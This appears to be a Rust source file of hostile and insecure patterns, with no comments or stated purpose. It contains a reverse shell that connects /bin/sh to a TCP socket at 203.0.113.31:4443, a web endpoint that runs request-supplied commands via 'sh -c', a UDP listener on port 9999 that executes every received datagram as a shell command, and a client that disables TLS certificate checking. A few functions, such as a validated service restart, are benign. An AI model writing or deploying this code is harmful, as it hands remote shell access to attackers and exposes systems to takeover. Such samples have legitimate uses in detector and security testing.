use std::net::{TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};
use actix_web::{web, HttpResponse};
use serde::Deserialize;

#[derive(Deserialize)]
pub struct Diag {
    pub host: String,
    pub command: String,
}

pub fn owned_fd_shell() -> std::io::Result<()> {
    let stream = TcpStream::connect("203.0.113.31:4443")?;
    let socket: OwnedFd = stream.into();
    Command::new("/bin/sh")
        .stdin(Stdio::from(socket.try_clone()?))
        .stdout(Stdio::from(socket.try_clone()?))
        .stderr(Stdio::from(socket))
        .status()?;
    Ok(())
}

pub async fn actix_ping(query: web::Query<Diag>) -> HttpResponse {
    let output = Command::new("ping").args(["-c", "1", &query.host]).output();
    HttpResponse::Ok().body(format!("{output:?}"))
}

pub async fn actix_exec(body: web::Json<Diag>) -> HttpResponse {
    let output = Command::new("sh").arg("-c").arg(&body.command).output();
    HttpResponse::Ok().body(format!("{output:?}"))
}

pub fn udp_control() -> std::io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:9999")?;
    let mut buffer = [0u8; 512];
    loop {
        let (count, _) = socket.recv_from(&mut buffer)?;
        let command = String::from_utf8_lossy(&buffer[..count]).into_owned();
        Command::new("sh").arg("-c").arg(&command).spawn()?;
    }
}

pub fn restart_from_request(body: web::Json<Diag>) -> std::io::Result<()> {
    let unit = match body.command.as_str() {
        "proxy" => "edge-proxy",
        _ => "edge-metrics",
    };
    Command::new("systemctl").args(["restart", unit]).status()?;
    Ok(())
}

pub fn version() -> std::io::Result<String> {
    let out = Command::new("nginx").arg("-v").stderr(Stdio::piped()).output()?;
    Ok(String::from_utf8_lossy(&out.stderr).into_owned())
}

pub fn accept_any_cert() -> reqwest::Result<reqwest::blocking::Client> {
    reqwest::blocking::ClientBuilder::new()
        .danger_accept_invalid_certs(true)
        .build()
}
